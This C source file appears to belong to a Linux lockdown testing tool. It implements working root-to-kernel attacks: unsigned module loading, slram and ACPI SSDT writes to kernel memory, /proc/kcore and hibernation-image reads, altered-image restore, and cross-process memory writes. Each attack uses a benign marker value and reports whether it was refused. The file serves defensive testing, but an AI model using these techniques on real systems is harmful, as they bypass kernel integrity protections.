// SPDX-License-Identifier: GPL-2.0
/*
 * Kernel memory read or written, code run in ring 0, without a device:
 * an unsigned module, a signed driver told where memory is (slram), an
 * ACPI table's AML, /proc/kcore, kdb at the console, the hibernation
 * image, XFRM's key dumps, ptrace. Where ldprobe's probe of a reason
 * already reaches what its grant gives (kdb reads and writes a variable,
 * the SA key is read back, the module loads), the attack is that probe.
 */
#define _GNU_SOURCE
#include <elf.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/suspend_ioctls.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/stat.h>
#include <sys/uio.h>
#include <sys/utsname.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#include "attack.h"
#include "probes.h"

/* An ldprobe probe as an attack: allowed is shown, denied refused. */
static void as_probe(struct aresult *o, const char *name, const char *reached)
{
	const struct probe *p = probe_find(name);
	struct result r = { 0 };

	p->run(&r);
	switch (r.outcome) {
	case ALLOWED:
		shown(o, "%s%s%s", reached, r.detail[0] ? ": " : "", r.detail);
		break;
	case DENIED:
		refused(o, "%s", r.detail[0] ? r.detail : "EPERM");
		break;
	case UNAVAILABLE:
		unavailable(o, "%s", r.detail);
		break;
	default:
		failed(o, "%s", r.detail);
	}
}

static void run_module_unsigned(struct aresult *o, int argc, char **argv)
{
	(void)argc;
	(void)argv;
	as_probe(o, "module_unsigned", "a module without a signature was linked into the kernel "
		 "and its init ran in ring 0 (then unloaded)");
}

/*
 * include/linux/kdb.h: what md and mm need (kdbgetaddrarg() looks symbols
 * up for MEM_READ or FLOW_CTRL), so that entering kdb asks only the
 * reason of the command
 */
#define KDB_ENABLE_MEM_READ 0x2
#define KDB_ENABLE_MEM_WRITE 0x4
#define KDB_ENABLE_FLOW_CTRL 0x40	/* symbol lookup needs it, or MEM_READ */

static void run_kdb_read(struct aresult *o, int argc, char **argv)
{
	(void)argc;
	(void)argv;
	kdb_probe_cmd_enable = KDB_ENABLE_MEM_READ;
	as_probe(o, "kdb_read", "kdb, typed at the console (ttyS3), printed sysctl_max_map_count "
		 "from kernel memory");
}

static void run_kdb_write(struct aresult *o, int argc, char **argv)
{
	(void)argc;
	(void)argv;
	kdb_probe_cmd_enable = KDB_ENABLE_MEM_WRITE | KDB_ENABLE_FLOW_CTRL;
	as_probe(o, "kdb_write", "kdb, typed at the console (ttyS3), wrote sysctl_max_map_count in "
		 "kernel memory");
}

static void run_xfrm_dump(struct aresult *o, int argc, char **argv)
{
	(void)argc;
	(void)argv;
	as_probe(o, "xfrm_secret", "an IPsec SA's hmac(sha256) key, read back whole over "
		 "NETLINK_XFRM");
}

/* Read @len bytes of kernel memory at @addr through /proc/kcore. */
static int kcore_read(int fd, uint64_t addr, void *buf, size_t len)
{
	Elf64_Ehdr eh;
	Elf64_Phdr ph;

	if (pread(fd, &eh, sizeof(eh), 0) != sizeof(eh) || memcmp(eh.e_ident, ELFMAG, SELFMAG))
		return -1;
	for (int i = 0; i < eh.e_phnum; i++) {
		if (pread(fd, &ph, sizeof(ph), eh.e_phoff + i * sizeof(ph)) != sizeof(ph))
			return -1;
		if (ph.p_type == PT_LOAD && addr >= ph.p_vaddr && addr + len <= ph.p_vaddr + ph.p_memsz)
			return pread(fd, buf, len, ph.p_offset + (addr - ph.p_vaddr)) == (ssize_t)len ?
			       0 : -1;
	}
	return -1;
}

static void run_kcore_read(struct aresult *o, int argc, char **argv)
{
	char buf[64] = "";
	uint64_t banner;
	int fd;

	(void)argc;
	(void)argv;
	if (ksym("linux_banner", &banner)) {
		failed(o, "linux_banner is not in /proc/kallsyms");
		return;
	}
	fd = open("/proc/kcore", O_RDONLY | O_CLOEXEC);
	if (fd < 0) {
		errno_outcome(o, errno, "open /proc/kcore");
		return;
	}
	if (kcore_read(fd, banner, buf, sizeof(buf) - 1) || strncmp(buf, "Linux version ", 14))
		failed(o, "/proc/kcore opened, but linux_banner (0x%llx) did not read back: '%.20s'",
		       (unsigned long long)banner, buf);
	else
		shown(o, "linux_banner read from /proc/kcore: '%.40s'", buf);
	close(fd);
}

/*
 * slram, a signed driver, maps what its map= parameter (a hardware one)
 * names as an MTD device, RAM included: root writes init_uts_ns through
 * /dev/mtdN. Debian's kernel has it as a module; the VM keeps it and what
 * it needs in /modules/slram/, in load order.
 */
#define SLRAM_DIR "/modules/slram"

static int mtd_of(const char *name)
{
	char line[128], want[64];
	int n = -1, k;
	FILE *f = fopen("/proc/mtd", "r");

	if (!f)
		return -1;
	snprintf(want, sizeof(want), "\"%s\"", name);
	while (fgets(line, sizeof(line), f))
		if (strstr(line, want) && sscanf(line, "mtd%d:", &k) == 1)
			n = k;
	fclose(f);
	return n;
}

static void run_slram_write(struct aresult *o, int argc, char **argv)
{
	char param[96], dev[32], was[65], now[65], back[65];
	uint64_t uts, phys, start;
	int fd, err, n;
	FILE *list;
	char ko[256];

	(void)argc;
	(void)argv;
	list = popen("ls " SLRAM_DIR "/*.ko 2>/dev/null", "r");
	if (!list || !fgets(ko, sizeof(ko), list)) {
		if (list)
			pclose(list);
		unavailable(o, "no slram module for this kernel in %s", SLRAM_DIR);
		return;
	}
	/* what slram needs first (mtd), in order; signed: nothing asked */
	do {
		ko[strcspn(ko, "\n")] = '\0';
		if (!strstr(ko, "slram.ko") && (err = load_module(ko, "")) && err != EEXIST) {
			pclose(list);
			failed(o, "load %s: %s", ko, strerror(err));
			return;
		}
	} while (!strstr(ko, "slram.ko") && fgets(ko, sizeof(ko), list));
	pclose(list);
	if (ksym(UTS_SYMBOL, &uts) || kphys(uts, &phys)) {
		failed(o, "no physical address for %s", UTS_SYMBOL);
		return;
	}
	start = phys & ~0x3fffULL;	/* slram's erase block */
	snprintf(param, sizeof(param), "map=ldattack,0x%llx,+0x4000", (unsigned long long)start);
	err = load_module(ko, param);
	if (err) {
		errno_outcome(o, err, "load slram with a map= over RAM");
		return;
	}
	n = mtd_of("ldattack");
	snprintf(dev, sizeof(dev), "/dev/mtd%d", n);
	fd = n < 0 ? -1 : open(dev, O_RDWR | O_CLOEXEC);
	if (fd < 0) {
		failed(o, "slram loaded, but no /dev/mtd for it (/proc/mtd): %s", strerror(errno));
		module_unload("slram");
		return;
	}
	sysname(was);
	if (pwrite(fd, strcmp(was, "Pwned") ? "Pwned" : "Owned", 6, phys - start) != 6) {
		failed(o, "write %s: %s", dev, strerror(errno));
	} else {
		sysname(now);
		if (pwrite(fd, was, strlen(was) + 1, phys - start) < 0)
			now[0] = '\0';
		sysname(back);
		if (strcmp(now, was) && !strcmp(back, was))
			shown(o, "slram mapped init_uts_ns (phys 0x%llx) as %s: uname -s said '%s', "
			      "then '%s' after a write there, now '%s' again",
			      (unsigned long long)phys, dev, was, now, back);
		else
			failed(o, "wrote %s, but uname -s said '%s', then '%s', then '%s'", dev, was,
			       now, back);
	}
	close(fd);
	module_unload("slram");
}

/*
 * An SSDT loaded through configfs whose module-level AML stores 8 bytes
 * at init_uts_ns through a SystemMemory operation region, as two DWORDs:
 * QEMU's DSDT is revision 1, so ACPICA's integers are 32-bit.
 */
static unsigned char *dword(unsigned char *p, uint32_t v)
{
	*p++ = 0x0c;		/* DWordConst */
	memcpy(p, &v, 4);
	return p + 4;
}

static size_t ssdt(unsigned char *t, uint64_t phys, const char *value, char tag)
{
	unsigned char *p = t + 36, sum = 0;
	uint32_t v[2] = { 0, 0 };
	char region[5] = "KMEx", lo[5] = "LODx", hi[5] = "HIDx";

	region[3] = lo[3] = hi[3] = tag;
	memcpy(v, value, strlen(value) < 8 ? strlen(value) : 8);
	/* OperationRegion (KMEx, SystemMemory, phys, 8) */
	*p++ = 0x5b; *p++ = 0x80;
	memcpy(p, region, 4); p += 4;
	*p++ = 0x00;
	p = dword(p, (uint32_t)phys);
	*p++ = 0x0a; *p++ = 8;
	/* Field (KMEx, ByteAcc, NoLock, Preserve) { LODx, 32, HIDx, 32 } */
	*p++ = 0x5b; *p++ = 0x81; *p++ = 1 + 4 + 1 + 5 + 5;
	memcpy(p, region, 4); p += 4;
	*p++ = 0x01;
	memcpy(p, lo, 4); p += 4;
	*p++ = 32;
	memcpy(p, hi, 4); p += 4;
	*p++ = 32;
	/* Store (v[0], LODx), Store (v[1], HIDx) */
	*p++ = 0x70; p = dword(p, v[0]); memcpy(p, lo, 4); p += 4;
	*p++ = 0x70; p = dword(p, v[1]); memcpy(p, hi, 4); p += 4;
	memset(t, 0, 36);
	memcpy(t, "SSDT", 4);
	t[4] = p - t;
	t[8] = 2;
	memcpy(t + 10, "LDATCK", 6);
	memcpy(t + 16, "LDATTACK", 8);
	t[24] = 1;
	memcpy(t + 28, "LDAT", 4);
	t[32] = 1;
	for (unsigned char *q = t; q < p; q++)
		sum += *q;
	t[9] = -sum;
	return p - t;
}

/* Load @t through configfs as table @name; true if the kernel loaded it. */
static bool acpi_load(const char *name, const unsigned char *t, size_t len, int *err)
{
	char dir[128], path[160], sig[8] = "";
	int fd;

	*err = 0;
	snprintf(dir, sizeof(dir), "/sys/kernel/config/acpi/table/%s", name);
	if (mkdir(dir, 0755) && errno != EEXIST) {
		*err = errno;
		return false;
	}
	snprintf(path, sizeof(path), "%s/aml", dir);
	fd = open(path, O_WRONLY | O_CLOEXEC);
	if (fd < 0 || write(fd, t, len) != (ssize_t)len)
		*err = errno;
	if (fd >= 0)
		close(fd);	/* loaded, or refused, here */
	snprintf(path, sizeof(path), "%s/signature", dir);
	fd = open(path, O_RDONLY | O_CLOEXEC);
	if (fd >= 0) {
		if (read(fd, sig, sizeof(sig) - 1) < 0)
			sig[0] = '\0';
		close(fd);
	}
	rmdir(dir);	/* unloads the table; what its AML wrote stays */
	return !strncmp(sig, "SSDT", 4);
}

static void run_acpi_table_write(struct aresult *o, int argc, char **argv)
{
	unsigned char t[128];
	char was[65], now[65], back[65];
	uint64_t uts, phys;
	int err;

	(void)argc;
	(void)argv;
	if (access("/sys/kernel/config/acpi/table", F_OK)) {
		unavailable(o, "no ACPI configfs (CONFIG_ACPI_CONFIGFS) in this kernel");
		return;
	}
	if (ksym(UTS_SYMBOL, &uts) || kphys(uts, &phys)) {
		failed(o, "no physical address for %s", UTS_SYMBOL);
		return;
	}
	if (phys >> 32) {
		failed(o, "init_uts_ns is above 4 GiB (0x%llx)", (unsigned long long)phys);
		return;
	}
	sysname(was);
	if (!acpi_load("ldattack1", t, ssdt(t, phys, strcmp(was, "Pwned") ? "Pwned" : "Owned", '1'),
		       &err)) {
		sysname(now);
		if (strcmp(now, was))
			failed(o, "the table was refused, yet uname -s changed to '%s'", now);
		else
			refused(o, "the SSDT was not loaded (%s)", err ? strerror(err) :
				"configfs reports it only in the log");
		return;
	}
	sysname(now);
	acpi_load("ldattack2", t, ssdt(t, phys, was, '2'), &err);
	sysname(back);
	if (strcmp(now, was) && !strcmp(back, was))
		shown(o, "an SSDT's AML stored into init_uts_ns (phys 0x%llx): uname -s said '%s', "
		      "then '%s', now '%s' again", (unsigned long long)phys, was, now, back);
	else
		failed(o, "the SSDT loaded, but uname -s said '%s', then '%s', then '%s'", was, now,
		       back);
}

/*
 * The hibernation image through /dev/snapshot (the uswsusp interface):
 * a header page, the PFNs of the pages saved (6.12 flags zero pages,
 * which are not in the stream), then the pages themselves.
 */
#define PAGE 4096UL
#define PFN_ZERO (1UL << 63)

struct image {
	unsigned char *buf;
	size_t len;
};

/* Read the image from @fd: @max bytes of it, or all (0). */
static int image_read(int fd, struct image *im, size_t max)
{
	size_t cap = 64 << 20;
	ssize_t n = 0;

	im->len = 0;
	im->buf = malloc(cap);
	if (!im->buf)
		return -1;
	while ((!max || im->len < max) && (n = read(fd, im->buf + im->len, PAGE)) > 0) {
		im->len += n;
		if (im->len + PAGE > cap) {
			unsigned char *b = realloc(im->buf, cap * 2);

			if (!b)
				return -1;
			im->buf = b;
			cap *= 2;
		}
	}
	return n < 0 ? -1 : 0;
}

/*
 * Up to the data page of @pfn: the header, the PFNs, and the pages in
 * PFN order, so as far as that one (the kernel's, low in memory, come
 * early). 0, or -1.
 */
static int image_read_upto(int fd, struct image *im, unsigned long pfn)
{
	unsigned long image_pages, pages, meta, data = 0;
	const unsigned long *pfns;

	if (image_read(fd, im, PAGE) || im->len < PAGE)
		return -1;
	image_pages = *(unsigned long *)(im->buf + 416);
	pages = *(unsigned long *)(im->buf + 424);
	meta = pages - 1 - image_pages;
	if (pages < 1 + image_pages || meta > (16UL << 20) / PAGE) {
		errno = EPROTO;
		return -1;
	}
	while (im->len < (1 + meta) * PAGE) {
		ssize_t n = read(fd, im->buf + im->len, PAGE);

		if (n <= 0)
			return -1;
		im->len += n;
	}
	pfns = (const unsigned long *)(im->buf + PAGE);
	for (unsigned long i = 0; i < meta * PAGE / sizeof(long) && data < image_pages; i++) {
		if (pfns[i] & PFN_ZERO)
			continue;
		data++;
		if (pfns[i] == pfn)
			break;
	}
	/* image_read()'s buffer holds 64 MiB: the kernel's pages come well before */
	while (im->len < (1 + meta + data) * PAGE && im->len + PAGE <= (64UL << 20)) {
		ssize_t n = read(fd, im->buf + im->len, PAGE);

		if (n <= 0)
			return -1;
		im->len += n;
	}
	return 0;
}

/* The data page of @pfn in the image, or NULL. */
static unsigned char *image_page(const struct image *im, unsigned long pfn)
{
	/*
	 * struct swsusp_info (kernel/power/power.h): uts (6 x 65 bytes),
	 * version_code at 392, num_physpages at 400, cpus at 408,
	 * image_pages at 416, pages at 424
	 */
	unsigned long image_pages = *(unsigned long *)(im->buf + 416);
	unsigned long pages = *(unsigned long *)(im->buf + 424);
	unsigned long meta = pages - 1 - image_pages, data = 0;
	const unsigned long *pfns = (const unsigned long *)(im->buf + PAGE);

	if (pages < 1 + image_pages || (1 + meta) * PAGE > im->len)
		return NULL;
	for (unsigned long i = 0; i < meta * PAGE / sizeof(long) && data < image_pages; i++) {
		if (!pfns[i] && i)
			break;
		if (pfns[i] & PFN_ZERO)
			continue;
		if (pfns[i] == pfn)	/* in what was read? */
			return (2 + meta + data) * PAGE <= im->len ?
			       im->buf + (1 + meta + data) * PAGE : NULL;
		data++;
	}
	return NULL;
}

/* Snapshot the running system: @fd open, frozen, image made. */
static int snapshot_make(int *fd, int *in_suspend, struct aresult *o)
{
	*fd = open("/dev/snapshot", O_RDONLY | O_CLOEXEC);
	if (*fd < 0) {
		if (errno == ENOENT)
			unavailable(o, "no /dev/snapshot (CONFIG_HIBERNATION_SNAPSHOT_DEV)");
		else
			errno_outcome(o, errno, "open /dev/snapshot");
		return -1;
	}
	sync();
	if (ioctl(*fd, SNAPSHOT_FREEZE, 0)) {
		errno_outcome(o, errno, "SNAPSHOT_FREEZE");
		close(*fd);
		return -1;
	}
	if (ioctl(*fd, SNAPSHOT_CREATE_IMAGE, in_suspend)) {
		errno_outcome(o, errno, "SNAPSHOT_CREATE_IMAGE");
		ioctl(*fd, SNAPSHOT_UNFREEZE, 0);
		close(*fd);
		return -1;
	}
	return 0;
}

static void snapshot_done(int fd)
{
	ioctl(fd, SNAPSHOT_FREE, 0);
	ioctl(fd, SNAPSHOT_UNFREEZE, 0);
	close(fd);
}

static void run_snapshot_read(struct aresult *o, int argc, char **argv)
{
	struct image im = { 0 };
	uint64_t banner, phys;
	int fd, in_suspend = 1;
	unsigned char *page;
	char version[128];
	struct utsname u;

	(void)argc;
	(void)argv;
	if (ksym("linux_banner", &banner) || kphys(banner, &phys) || uname(&u)) {
		failed(o, "no physical address for linux_banner");
		return;
	}
	/* linux_banner: "Linux version " UTS_RELEASE " (" ... */
	snprintf(version, sizeof(version), "Linux version %s (", u.release);
	if (snapshot_make(&fd, &in_suspend, o))
		return;
	if (image_read_upto(fd, &im, phys / PAGE)) {
		failed(o, "read /dev/snapshot: %s", strerror(errno));
	} else if (!(page = image_page(&im, phys / PAGE))) {
		failed(o, "the image (%zu bytes) has no page for linux_banner's (pfn 0x%llx)",
		       im.len, (unsigned long long)(phys / PAGE));
	} else if (strncmp((char *)page + phys % PAGE, version, strlen(version))) {
		failed(o, "linux_banner's page in the image reads '%.30s'", page + phys % PAGE);
	} else {
		shown(o, "the hibernation image read from /dev/snapshot (its first %zu bytes) holds "
		      "kernel memory: linux_banner '%.40s'", im.len, page + phys % PAGE);
	}
	free(im.buf);
	snapshot_done(fd);
}

/*
 * Kernel memory rewritten by resuming from an altered image, with no
 * reboot: snapshot, read the image, change init_uts_ns's page in it,
 * write it back through a second open of /dev/snapshot and ask for
 * SNAPSHOT_ATOMIC_RESTORE. The system goes back to the moment of the
 * snapshot, its memory the altered image's: this process returns from
 * SNAPSHOT_CREATE_IMAGE again, with in_suspend 0, and uname -s says what
 * the image was made to say.
 */
static void run_snapshot_restore(struct aresult *o, int argc, char **argv)
{
	struct image im = { 0 };
	uint64_t uts, phys;
	int fd, in_suspend = 1;
	unsigned char *page;
	char was[65], want[65], now[65];

	(void)argc;
	(void)argv;
	if (ksym(UTS_SYMBOL, &uts) || kphys(uts, &phys)) {
		failed(o, "no physical address for %s", UTS_SYMBOL);
		return;
	}
	sysname(was);
	snprintf(want, sizeof(want), "%s", strcmp(was, "Taken") ? "Taken" : "Owned");
	if (snapshot_make(&fd, &in_suspend, o))
		return;
	if (!in_suspend) {
		/* back from the altered image */
		snapshot_done(fd);
		sysname(now);
		if (!strcmp(now, want))
			shown(o, "resumed, without a reboot, from an image altered after the snapshot: "
			      "uname -s said '%s', now '%s' (init_uts_ns, phys 0x%llx)", was, now,
			      (unsigned long long)phys);
		else
			failed(o, "resumed from the altered image, but uname -s says '%s', not '%s'",
			       now, want);
		return;
	}
	if (image_read(fd, &im, 0) || !(page = image_page(&im, phys / PAGE)) ||
	    phys % PAGE + 8 > PAGE) {
		failed(o, "no page for init_uts_ns in the image (%zu bytes)", im.len);
		free(im.buf);
		snapshot_done(fd);
		return;
	}
	memset(page + phys % PAGE, 0, 8);
	memcpy(page + phys % PAGE, want, strlen(want));
	snapshot_done(fd);
	fd = open("/dev/snapshot", O_WRONLY | O_CLOEXEC);
	if (fd < 0) {
		errno_outcome(o, errno, "open /dev/snapshot to restore");
		free(im.buf);
		return;
	}
	for (size_t off = 0; off < im.len; off += PAGE)
		if (write(fd, im.buf + off, PAGE) != (ssize_t)PAGE) {
			failed(o, "write the image back: %s", strerror(errno));
			free(im.buf);
			close(fd);
			return;
		}
	free(im.buf);
	if (ioctl(fd, SNAPSHOT_FREEZE, 0) || ioctl(fd, SNAPSHOT_ATOMIC_RESTORE, 0))
		errno_outcome(o, errno, "SNAPSHOT_ATOMIC_RESTORE");
	else
		failed(o, "SNAPSHOT_ATOMIC_RESTORE returned");
	ioctl(fd, SNAPSHOT_UNFREEZE, 0);
	close(fd);
}

/*
 * Another process's memory written: process_vm_writev(2), or /proc/PID/mem
 * (ptrace's access check), asking no reason.
 */
static void run_ptrace_write(struct aresult *o, int argc, char **argv)
{
	static volatile long flag;
	long v = 42;
	struct iovec local = { &v, sizeof(v) }, remote = { (void *)&flag, sizeof(flag) };
	const char *how = "process_vm_writev(2)";
	pid_t pid = victim(&flag);

	(void)argc;
	(void)argv;
	if (pid < 0) {
		failed(o, "fork: %s", strerror(errno));
		return;
	}
	if (process_vm_writev(pid, &local, 1, &remote, 1, 0) != sizeof(v)) {
		/* a kernel without CROSS_MEMORY_ATTACH: /proc/PID/mem */
		char mem[32];
		int fd, err = errno;

		how = "/proc/PID/mem";
		snprintf(mem, sizeof(mem), "/proc/%d/mem", pid);
		fd = open(mem, O_WRONLY | O_CLOEXEC);
		if (fd < 0 || pwrite(fd, &v, sizeof(v), (uintptr_t)&flag) != sizeof(v)) {
			err = errno;
			if (fd >= 0)
				close(fd);
			victim_kill(pid);
			errno_outcome(o, err, "process_vm_writev, and /proc/PID/mem");
			return;
		}
		close(fd);
	}
	if (victim_saw(pid))
		shown(o, "%s wrote another process's memory (pid %d saw 42)", how, pid);
	else
		failed(o, "%s returned, but pid %d never saw the value", how, pid);
}

const struct attack attacks_kernel[] = {
	{ "module-unsigned", "finit_module() of a module without a signature",
	  run_module_unsigned },
	{ "slram-write", "slram's map= over init_uts_ns, written through /dev/mtdN",
	  run_slram_write },
	{ "acpi-table-write", "an SSDT through configfs whose AML writes init_uts_ns",
	  run_acpi_table_write },
	{ "kcore-read", "linux_banner read from /proc/kcore", run_kcore_read },
	{ "kdb-read", "kdb md on a kernel variable, typed at the console", run_kdb_read },
	{ "kdb-write", "kdb mm on a kernel variable, typed at the console", run_kdb_write },
	{ "xfrm-dump", "an IPsec SA's key read back over NETLINK_XFRM", run_xfrm_dump },
	{ "snapshot-read", "linux_banner found in the image read from /dev/snapshot",
	  run_snapshot_read },
	{ "snapshot-restore", "init_uts_ns changed by restoring an altered image, no reboot",
	  run_snapshot_restore },
	{ "ptrace-write", "another process's memory written with process_vm_writev",
	  run_ptrace_write },
	{ 0 }
};
